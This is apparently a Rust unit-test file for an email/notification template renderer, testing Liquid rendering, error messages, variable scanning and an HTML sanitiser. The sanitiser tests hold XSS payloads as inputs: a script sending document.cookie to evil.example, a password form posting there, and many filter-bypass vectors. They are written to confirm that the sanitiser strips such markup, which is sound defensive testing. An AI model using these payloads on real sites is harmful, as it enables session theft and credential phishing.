//! Unit tests for the renderer, its errors, and the variable scanner.

use serde_json::{json, Value};

use super::*;

fn vars() -> Value {
    json!({
        "payload": {
            "orderId": "A-1042",
            "total": 59.9,
            "count": 3,
            "createdAt": "2026-11-22T08:15:00.000Z",
            "user": {"name": "ada", "plan": "pro"},
            "items": [
                {"name": "Lamp", "qty": 1, "tags": [{"label": "new"}]},
                {"name": "Desk", "qty": 2}
            ],
            "empty": "",
            "nothing": null
        },
        "subscriber": {"subscriberId": "s-1", "firstName": "Ada", "email": "ada@example.com"},
        "steps": {"digest-step": {"events": [{"payload": {"x": 1}}, {"payload": {"x": 2}}]}},
        "env": {"name": "Development", "type": "dev"}
    })
}

fn render(template: &str) -> String {
    Renderer::new()
        .render_str(template, &vars())
        .unwrap_or_else(|e| panic!("{template:?} failed: {e}"))
}

fn render_err(template: &str) -> RenderError {
    match Renderer::new().render_str(template, &vars()) {
        Ok(out) => panic!("{template:?} rendered {out:?}, expected an error"),
        Err(e) => e,
    }
}

#[test]
fn email_subject_and_body_with_filters() {
    let subject = "Order {{ payload.orderId }} for {{ subscriber.firstName | upcase }}";
    assert_eq!(render(subject), "Order A-1042 for ADA");

    let body = "Hi {{ subscriber.firstName | default: 'there' }},\n\
        you ordered {{ payload.items | size }} items on {{ payload.createdAt | date: '%b %d, %Y' }}.\n\
        {% for item in payload.items %}- {{ item.name | downcase }} x{{ item.qty }}\n{% endfor %}\
        {% if payload.user.plan == 'pro' %}Pro perks apply.{% else %}Upgrade!{% endif %}\n\
        Greeting: {{ payload.user.nickname | default: payload.user.name | capitalize }}";
    assert_eq!(
        render(body),
        "Hi Ada,\nyou ordered 2 items on Nov 22, 2026.\n- lamp x1\n- desk x2\n\
         Pro perks apply.\nGreeting: Ada"
    );
}

#[test]
fn plain_text_is_returned_without_parsing() {
    let r = Renderer::new();
    assert_eq!(
        r.render_str("no markup { here }", &vars()).unwrap(),
        "no markup { here }"
    );
    assert_eq!(r.lock_cache().entries.len(), 0);
}

#[test]
fn missing_variables_render_empty() {
    assert_eq!(render("[{{ payload.missing.deep }}]"), "[]");
    assert_eq!(render("[{{ nope }}][{{ nope.a.b.c }}]"), "[][]");
    assert_eq!(
        render("[{{ payload.nothing.x }}][{{ payload.nothing }}]"),
        "[][]"
    );
    assert_eq!(render("[{{ payload.items[7].name }}]"), "[]");
    assert_eq!(render("{{ payload.missing | default: 'n/a' }}"), "n/a");
    assert_eq!(render("{{ payload.empty | default: 'n/a' }}"), "n/a");
    assert_eq!(
        render("[{{ payload.missing | upcase }}][{{ payload.missing | size }}]"),
        "[][0]"
    );
    assert_eq!(render("[{{ payload.missing | date: '%Y' }}]"), "[]");
    assert_eq!(
        render("{% if payload.missing.flag %}yes{% else %}no{% endif %}"),
        "no"
    );
    assert_eq!(
        render("{% if payload.missing == nil %}nil{% endif %}"),
        "nil"
    );
    assert_eq!(
        render("{% for x in payload.missing %}{{ x }}{% else %}none{% endfor %}"),
        "none"
    );
    assert_eq!(render("{{ actor.name }}{{ context.tenant.id }}"), "");
}

#[test]
fn missing_fields_of_loop_items_and_aliases_render_empty() {
    // Liquid copies loop items: without filling, `item.tags` on the second item would fail.
    let t = "{% for item in payload.items %}[{{ item.name }}:{{ item.color }}:{{ item.dims.w }}:\
             {% for tag in item.tags %}{{ tag.label }}{{ tag.extra }}{% endfor %}]{% endfor %}";
    assert_eq!(render(t), "[Lamp:::new][Desk:::]");

    let t = "{% assign u = payload.user %}{{ u.name }}|{{ u.age }}|\
             {% assign g = payload.ghost %}{{ g.name }}|{% assign first = payload.items[0] %}\
             {{ first.name }}{{ first.weight }}";
    assert_eq!(render(t), "ada|||Lamp");

    let digest = "{% for e in steps.digest-step.events %}{{ e.payload.x }}{{ e.payload.y.z }},\
                  {% endfor %}{{ steps.digest-step.events | size }}";
    assert_eq!(render(digest), "1,2,2");
}

#[test]
fn conditionals_and_nested_paths() {
    let t = "{% if subscriber.email contains '@example.com' and payload.count > 2 %}A{% endif %}\
             {% unless payload.user.plan == 'free' %}B{% endunless %}\
             {% case payload.user.plan %}{% when 'pro' %}C{% else %}D{% endcase %}\
             {{ payload['user'].name }}{{ payload.items.first.name }}{{ payload.items.last.name }}\
             {{ payload.items[1]['name'] }}{{ env.name }}";
    assert_eq!(render(t), "ABCadaLampDeskDeskDevelopment");
}

#[test]
fn array_filters_work_on_payload_arrays() {
    let t = "{{ payload.items | map: 'name' | join: ', ' }}|\
             {{ payload.items | where: 'qty', 2 | map: 'name' | first }}|\
             {{ payload.items | map: 'name' | sort | last }}|{{ payload.items | map: 'color' | join: '-' }}|\
             {{ payload.items.first.tags | size }}";
    assert_eq!(render(t), "Lamp, Desk|Desk|Lamp||1");
}

#[test]
fn numbers_booleans_and_json() {
    let vars = json!({"payload": {"n": 5, "f": 2.5, "ok": true, "obj": {"a": [1, "b"]}}});
    let r = Renderer::new();
    let out = r
        .render_str(
            "{{ payload.n | plus: 1 }} {{ payload.f }} {{ payload.ok }} {{ payload.obj | json }}",
            &vars,
        )
        .unwrap();
    assert_eq!(out, r#"6 2.5 true {"a":[1,"b"]}"#);
}

#[test]
fn date_filter_reads_iso_and_liquid_formats() {
    let vars = json!({"payload": {
        "iso": "2026-11-22T08:15:00.000Z",
        "offset": "2026-11-22T23:30:00+02:00",
        "day": "2026-01-05",
        "liquid": "2016-06-13 02:30:00 +0300",
        "unix": 1_700_000_000,
        "text": "soon"
    }});
    let r = Renderer::new();
    let out = r
        .render_str(
            "{{ payload.iso | date: '%Y-%m-%d %H:%M' }}|{{ payload.offset | date: '%H:%M %z' }}|\
             {{ payload.day | date: '%d/%m/%Y' }}|{{ payload.liquid | date: '%Y' }}|\
             {{ payload.unix | date: '%Y-%m-%d' }}|{{ payload.text | date: '%Y' }}",
            &vars,
        )
        .unwrap();
    assert_eq!(
        out,
        "2026-11-22 08:15|23:30 +0200|05/01/2026|2016|2023-11-14|soon"
    );
}

#[test]
fn syntax_error_reports_line_and_hint() {
    let e = render_err("Hello\nline two {{ payload.name \nthree");
    assert_eq!(e.kind, RenderErrorKind::Syntax);
    assert_eq!(e.line, Some(2));
    assert!(e.message.contains("line 2"), "{}", e.message);
    assert!(
        e.message.contains("line two {{ payload.name"),
        "{}",
        e.message
    );
    assert!(
        e.hint().contains("every {{ must be closed by }}"),
        "{}",
        e.hint()
    );
    assert_eq!(e.title(), "Template syntax error");
}

#[test]
fn unclosed_block_points_at_the_opening_tag() {
    let e = render_err("Hi\n{% if payload.user %}\nName: {{ payload.user.name }}\nBye");
    assert_eq!(e.kind, RenderErrorKind::Syntax);
    assert_eq!(e.line, Some(2));
    assert!(e.message.contains("never closed"), "{}", e.message);
    assert!(e.hint().contains("{% endif %}"), "{}", e.hint());
}

#[test]
fn stray_end_tag_and_unknown_tag() {
    let e = render_err("a\n{% endif %}");
    assert_eq!(e.kind, RenderErrorKind::Syntax);
    assert_eq!(e.line, Some(2));
    assert!(e.hint().contains("no matching `{% if %}`"), "{}", e.hint());

    let e = render_err("{% hello %}");
    assert_eq!(e.name(), Some("hello"));
    assert!(e.hint().contains("not a Liquid tag"), "{}", e.hint());
}

#[test]
fn unknown_filter_suggests_the_liquid_name() {
    let e = render_err("Hi\n{{ subscriber.firstName | upper }}!");
    assert_eq!(e.kind, RenderErrorKind::UnknownFilter);
    assert_eq!(e.title(), "Unknown filter");
    assert_eq!(e.name(), Some("upper"));
    assert_eq!(e.line, Some(2));
    assert_eq!(e.snippet(), Some("{{ subscriber.firstName | upper }}"));
    assert!(e.message.contains("`upper` at line 2"), "{}", e.message);
    assert!(e.hint().contains("did you mean `upcase`"), "{}", e.hint());
    assert!(e.hint().contains("downcase"), "{}", e.hint());

    let e = render_err("{{ payload.x | frobnicate }}");
    assert!(!e.hint().contains("did you mean"), "{}", e.hint());
    assert!(e.hint().contains("upcase"), "{}", e.hint());
}

#[test]
fn bad_filter_arguments_and_runtime_filter_errors() {
    let e = render_err("x\n{{ payload.user.name | append }}");
    assert_eq!(e.kind, RenderErrorKind::Syntax);
    assert_eq!(e.name(), Some("append"));
    assert_eq!(e.line, Some(2));

    let e = render_err("x\ny\n{{ payload.user.name | truncate: 'ten' }}");
    assert_eq!(e.kind, RenderErrorKind::Other);
    assert_eq!(e.title(), "Template error");
    assert_eq!(e.name(), Some("truncate"));
    assert_eq!(e.line, Some(3));
    assert!(e.message.contains("Whole number expected"), "{}", e.message);

    // A field of text renders empty (as in LiquidJS), it is not an error.
    assert_eq!(render("[{{ payload.orderId.code }}]"), "[]");
}

#[test]
fn parse_errors_are_cached_too() {
    let r = Renderer::new();
    let e1 = r.render_str("{{ x | upper }}", &vars()).unwrap_err();
    let e2 = r.check("{{ x | upper }}").unwrap_err();
    assert_eq!(e1, e2);
    assert_eq!(r.lock_cache().entries.len(), 1);
    assert!(r.check("{{ payload.x | upcase }}").is_ok());
    assert!(r.check("plain").is_ok());
}

#[test]
fn cache_reuses_and_stays_bounded() {
    let r = Renderer::new();
    for _ in 0..3 {
        assert_eq!(r.render_str("{{ payload.count }}", &vars()).unwrap(), "3");
    }
    assert_eq!(r.lock_cache().entries.len(), 1);
    for i in 0..(CACHE_ENTRIES + 10) {
        let t = format!("{{{{ payload.count }}}}-{i}");
        assert_eq!(r.render_str(&t, &vars()).unwrap(), format!("3-{i}"));
    }
    assert!(r.lock_cache().entries.len() <= CACHE_ENTRIES);
}

#[test]
fn renderer_is_shareable() {
    fn assert_send_sync<T: Send + Sync>() {}
    assert_send_sync::<Renderer>();
    assert_send_sync::<RenderError>();
    assert!(std::ptr::eq(Renderer::shared(), Renderer::shared()));
}

#[test]
fn render_value_renders_nested_strings_only() {
    let controls = json!({
        "subject": "Hi {{ subscriber.firstName }}",
        "primaryAction": {"label": "Open {{ payload.orderId }}", "redirect": {"url": "https://x.test/o/{{ payload.orderId }}", "target": "_blank"}},
        "buttons": [{"type": "primary", "content": "{{ payload.items | size }} items"}],
        "count": 2,
        "enabled": true,
        "none": null,
        "{{ key }}": "keys are not rendered"
    });
    let out = Renderer::new().render_value(&controls, &vars()).unwrap();
    assert_eq!(
        out,
        json!({
            "subject": "Hi Ada",
            "primaryAction": {"label": "Open A-1042", "redirect": {"url": "https://x.test/o/A-1042", "target": "_blank"}},
            "buttons": [{"type": "primary", "content": "2 items"}],
            "count": 2,
            "enabled": true,
            "none": null,
            "{{ key }}": "keys are not rendered"
        })
    );
}

#[test]
fn render_value_error_names_the_field() {
    let controls = json!({"buttons": [{"content": "ok"}, {"content": "{{ x | nope }}"}]});
    let e = Renderer::new()
        .render_value(&controls, &vars())
        .unwrap_err();
    assert_eq!(e.kind, RenderErrorKind::UnknownFilter);
    assert_eq!(e.field(), Some("buttons[1].content"));
    assert!(
        e.message.starts_with("In `buttons[1].content`: "),
        "{}",
        e.message
    );
}

#[test]
fn non_object_vars_count_as_empty() {
    let r = Renderer::new();
    assert_eq!(
        r.render_str("[{{ payload.x }}]", &Value::Null).unwrap(),
        "[]"
    );
    assert_eq!(
        r.render_str("[{{ payload.x }}]", &json!([1])).unwrap(),
        "[]"
    );
}

fn var(path: &[&str]) -> VarUse {
    VarUse {
        path: path.iter().map(|s| s.to_string()).collect(),
        is_array_loop: false,
        item_fields: vec![],
    }
}

fn array(path: &[&str], item_fields: Vec<VarUse>) -> VarUse {
    VarUse {
        is_array_loop: true,
        item_fields,
        ..var(path)
    }
}

#[test]
fn variables_in_outputs_filters_and_conditions() {
    let t = "Hi {{ subscriber.firstName | default: payload.fallbackName | upcase }}! \
             {{ 'literal.path' | append: payload.suffix, extra: payload.kw }}\
             {% if payload.user.age > 18 and subscriber.data.plan == \"pro\" %}adult{% endif %}\
             {{ payload.user }}{{ payload.user.name }}{{ steps.digest-step.events | size }}\
             {{ payload.items.size }}{{ payload.order['id'] }}{{ payload.rows[0].cells }}\
             {{ payload.map[payload.key] }}{% raw %}{{ payload.raw }}{% endraw %}\
             {% comment %}{{ payload.commented }}{% endcomment %}{{ forloop.index }}\
             {%- echo payload.echoed -%}";
    assert_eq!(
        variables_used(t),
        vec![
            var(&["subscriber", "firstName"]),
            var(&["payload", "fallbackName"]),
            var(&["payload", "suffix"]),
            var(&["payload", "kw"]),
            var(&["payload", "user", "age"]),
            var(&["subscriber", "data", "plan"]),
            var(&["payload", "user", "name"]),
            var(&["steps", "digest-step", "events"]),
            var(&["payload", "items"]),
            var(&["payload", "order", "id"]),
            array(&["payload", "rows"], vec![var(&["cells"])]),
            var(&["payload", "key"]),
            var(&["payload", "map"]),
            var(&["payload", "echoed"]),
        ]
    );
}

#[test]
fn variables_in_loops_and_aliases() {
    let t = "{% for item in payload.items limit: payload.max %}{{ item.name }} \
             {{ item.price.amount | plus: 1 }}{% for tag in item.tags %}{{ tag.label }}{% endfor %}\
             {{ forloop.index }}{% endfor %}\
             {% for i in (1..payload.n) %}{{ i }}{% endfor %}\
             {% assign u = payload.user %}{{ u.email }}\
             {% assign shout = payload.title | upcase %}{{ shout }}\
             {% capture c %}{{ subscriber.lastName }}{% endcapture %}{{ c }}\
             {% for e in steps.digest.events %}{% endfor %}";
    assert_eq!(
        variables_used(t),
        vec![
            array(
                &["payload", "items"],
                vec![
                    var(&["name"]),
                    var(&["price", "amount"]),
                    array(&["tags"], vec![var(&["label"])]),
                ]
            ),
            var(&["payload", "max"]),
            var(&["payload", "n"]),
            var(&["payload", "user", "email"]),
            var(&["payload", "title"]),
            var(&["subscriber", "lastName"]),
            array(&["steps", "digest", "events"], vec![]),
        ]
    );
}

#[test]
fn example_payload_from_variables() {
    let t = "{{ payload.user.name }}{% for item in payload.items %}{{ item.name }}\
             {% for tag in item.tags %}{{ tag }}{% endfor %}{% endfor %}{{ subscriber.firstName }}";
    let example = example_from_variables(&variables_used(t));
    assert_eq!(
        example,
        json!({
            "payload": {"user": {"name": "name"}, "items": [{"name": "name", "tags": ["tags"]}]},
            "subscriber": {"firstName": "firstName"}
        })
    );
    // Uses from several templates merge; a structure wins over a string leaf.
    let mut uses = variables_used("{{ payload.items }}{{ payload.user }}");
    uses.extend(variables_used(
        "{% for i in payload.items %}{{ i.sku }}{% endfor %}{{ payload.user.id }}",
    ));
    uses.extend(variables_used("{{ payload.items[0].qty }}"));
    assert_eq!(
        example_from_variables(&uses),
        json!({"payload": {"items": [{"sku": "sku", "qty": "qty"}], "user": {"id": "id"}}})
    );
    assert_eq!(example_from_variables(&[]), json!({}));
}

#[test]
fn scanner_survives_odd_input() {
    for t in [
        "{{",
        "{{ payload.a",
        "{% for %}",
        "{% for x in %}{{ x.y }}",
        "{{ payload.a[ }}",
        "{{ 'unterminated }}",
        "{% liquid\n assign x = payload.a\n echo x.b\n %}",
        "}} {% endfor %} {{ - }}",
        "{{ -1 | plus: payload.n }}",
    ] {
        let _ = variables_used(t);
        let _ = FillPlan::for_template(t);
    }
    assert_eq!(
        variables_used("{% liquid\n assign x = payload.a\n echo x.b\n %}"),
        vec![var(&["payload", "a", "b"])]
    );
    assert_eq!(
        variables_used("{{ -1 | plus: payload.n }}"),
        vec![var(&["payload", "n"])]
    );
}

/// A realistic order confirmation, written as ammonia serialises HTML (double-quoted attributes,
/// `&amp;` and `&nbsp;` as the only entities), so that "unchanged" can be checked byte for byte.
const ORDER_EMAIL: &str = include_str!("testdata/order-confirmation.html");

#[test]
fn sanitizing_keeps_a_legitimate_email_unchanged() {
    // Nothing to remove: returned as it is, without running ammonia.
    let out = sanitize_html(ORDER_EMAIL);
    assert!(matches!(out, std::borrow::Cow::Borrowed(_)));
    assert_eq!(out, ORDER_EMAIL);
    // Ammonia's own pass over it changes nothing either.
    let spaced = ORDER_EMAIL.replace("<body style=", "<!-- x --><body style=");
    let cleaned = sanitize_html(&spaced);
    assert!(matches!(cleaned, std::borrow::Cow::Owned(_)));
    assert_eq!(cleaned, ORDER_EMAIL);
    // The same holds for a fragment (no document skeleton).
    let fragment = "<p style=\"color:#333\">Hi <b>Ada</b>, <a href=\"https://x.example/o?a=1&amp;b=2\" \
                    target=\"_blank\">your order</a><br><img src=\"cid:logo\" alt=\"Logo\" width=\"40\"></p>";
    assert_eq!(sanitize_html(fragment), fragment);
}

#[test]
fn sanitizing_removes_only_the_dangerous_parts() {
    let dirty = ORDER_EMAIL
        .replace("<html lang=\"en\"", "<html onclick=\"steal()\" lang=\"en\"")
        .replace(
            "<title>",
            "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\"><script>alert(1)</script><title>",
        )
        .replace("<body style=", "<body onload=\"alert(2)\" style=")
        .replace(
            "<h1 style=",
            "<script>document.location='https://evil.example/?c='+document.cookie</script>\
             <iframe src=\"https://evil.example\"></iframe><!-- tracking --><h1 onmouseover=\"x()\" style=",
        )
        .replace("alt=\"Desk lamp\"", "alt=\"Desk lamp\" onerror=\"alert(3)\"")
        .replace(
            "<a href=\"mailto:",
            "<a href=\"javascript:alert(4)\">click</a><a href=\"mailto:",
        )
        .replace(
            "<strong>Total</strong>",
            "<strong>Total</strong><object data=\"x.swf\"></object><form action=\"https://evil.example\"><input name=\"pw\"></form>",
        );
    assert_ne!(dirty, ORDER_EMAIL);
    // A refresh `<meta>` keeps only its `content`, which does nothing without `http-equiv`.
    let clean = ORDER_EMAIL
        .replace("<a href=\"mailto:", "<a>click</a><a href=\"mailto:")
        .replace(
            "<title>",
            "<meta content=\"0;url=https://evil.example\"><title>",
        );
    assert_eq!(sanitize_html(&dirty), clean);
}

#[test]
fn sanitizing_payload_values() {
    assert_eq!(sanitize_html("<script>alert(1)</script>"), "");
    assert_eq!(
        sanitize_html("Hello <script>alert(1)</script><b>Ada</b>"),
        "Hello <b>Ada</b>"
    );
    assert_eq!(
        sanitize_html("<img src=x onerror=alert(1)>"),
        "<img src=\"x\">"
    );
    // Text without markup is returned as it is (no `&amp;` for a plain `&`).
    assert!(matches!(
        sanitize_html("Tom & Jerry > 3"),
        std::borrow::Cow::Borrowed("Tom & Jerry > 3")
    ));
    // A document whose skeleton is broken is cleaned as a fragment.
    assert_eq!(
        sanitize_html("<body onload=x><p>Hi</p><script>y()</script>"),
        "<p>Hi</p>"
    );
}

#[test]
fn plain_text_of_an_email() {
    assert_eq!(
        html_to_text(ORDER_EMAIL),
        "Thanks for your order, Ada!\n\n\
         Order A-1042 · placed Nov 22, 2026\n\n\
         Item Qty Price\n\
         Desk lamp\n\
         SKU LMP-204 · Walnut 1 EUR 41.8\n\
         Total EUR 41.80\n\n\
         View your order (https://shop.example.com/orders/A-1042?utm_source=email&utm_medium=order)\n\n\
         Questions? Write to support@shop.example.com.\n\n\
         Example Shop & Co · 1 Market Street · San Francisco"
    );
    assert_eq!(
        html_to_text("<ul><li>one</li><li>two &lt;3</li></ul><p>a<br>b<script>x()</script></p>"),
        "- one\n- two <3\n\na\nb"
    );
    assert_eq!(html_to_text("plain & simple"), "plain & simple");
}

#[test]
fn fields_of_text_and_numbers_render_empty() {
    let vars = json!({
        "actor": "u2",
        "payload": {"n": 3, "flag": true, "name": "Ada", "items": ["a", "b"], "list": [{"x": 1}, "plain"]}
    });
    let r = Renderer::new();
    let out = |t: &str| {
        r.render_str(t, &vars)
            .unwrap_or_else(|e| panic!("{t:?}: {e}"))
    };
    assert_eq!(out("[{{ actor.firstName }}]"), "[]");
    assert_eq!(
        out("[{{ actor.firstName | default: 'someone' }}]"),
        "[someone]"
    );
    assert_eq!(
        out("[{{ payload.n.x }}][{{ payload.flag.y.z }}][{{ payload.name }}]"),
        "[][][Ada]"
    );
    assert_eq!(out("{{ payload.name.size }}"), "3");
    assert_eq!(
        out("{% for i in payload.items %}[{{ i.label }}]{% endfor %}"),
        "[][]"
    );
    assert_eq!(
        out("{% for i in payload.list %}[{{ i.x }}]{% endfor %}"),
        "[1][]"
    );
    assert_eq!(
        out("{% if actor.firstName %}yes{% else %}no{% endif %}"),
        "no"
    );
}

#[test]
fn markup_the_quick_check_does_not_admit_goes_through_ammonia() {
    let dangerous = [
        "<script>alert(1)</script>",
        "<SCRIPT>alert(1)</SCRIPT>",
        "<scr<script>ipt>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<img src=\"x\" ONERROR=\"alert(1)\">",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=javascript:alert(1)>x</a>",
        "<a href=\" javascript:alert(1)\">x</a>",
        "<a href=\"java\tscript:alert(1)\">x</a>",
        "<a href=\"&#106;avascript&#58;alert(1)\">x</a>",
        "<a href=\"jav&#x61;script:alert(1)\">x</a>",
        "<a href=\"javascript&#58;alert(1)\">x</a>",
        "<a href=\"javascript&colon;alert(1)\">x</a>",
        "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
        "<img src=\"vbscript:msgbox(1)\">",
        "<iframe src=\"https://evil.example\"></iframe>",
        "<svg><script>alert(1)</script></svg>",
        "<math><mtext><script>alert(1)</script></mtext></math>",
        "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
        "<link rel=\"stylesheet\" href=\"javascript:alert(1)\">",
        "<!-- <script>alert(1)</script> -->",
        "<p>a</p><!--><script>alert(1)</script>-->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<form action=\"https://evil.example\"><input name=\"pw\"></form>",
        "<object data=\"x.swf\"></object>",
        "<embed src=\"x.swf\">",
        "<base href=\"https://evil.example/\">",
        "<p title=\"x\"onclick=\"alert(1)\">x</p>",
        "<p/onclick=alert(1)>x</p>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<style></style><script>alert(1)</script>",
        "<title></title><img src=x onerror=alert(1)>",
        "<p>1 < 2</p>",
    ];
    for html in dangerous {
        let out = sanitize_html(html);
        assert!(
            matches!(out, std::borrow::Cow::Owned(_)),
            "{html:?} was admitted unchanged"
        );
        let lower = out.to_ascii_lowercase();
        for needle in [
            "<script",
            "onerror",
            "onclick",
            "javascript:",
            "<iframe",
            "vbscript",
            "refresh",
            "<svg",
        ] {
            assert!(!lower.contains(needle), "{html:?} -> {out:?}");
        }
    }
}
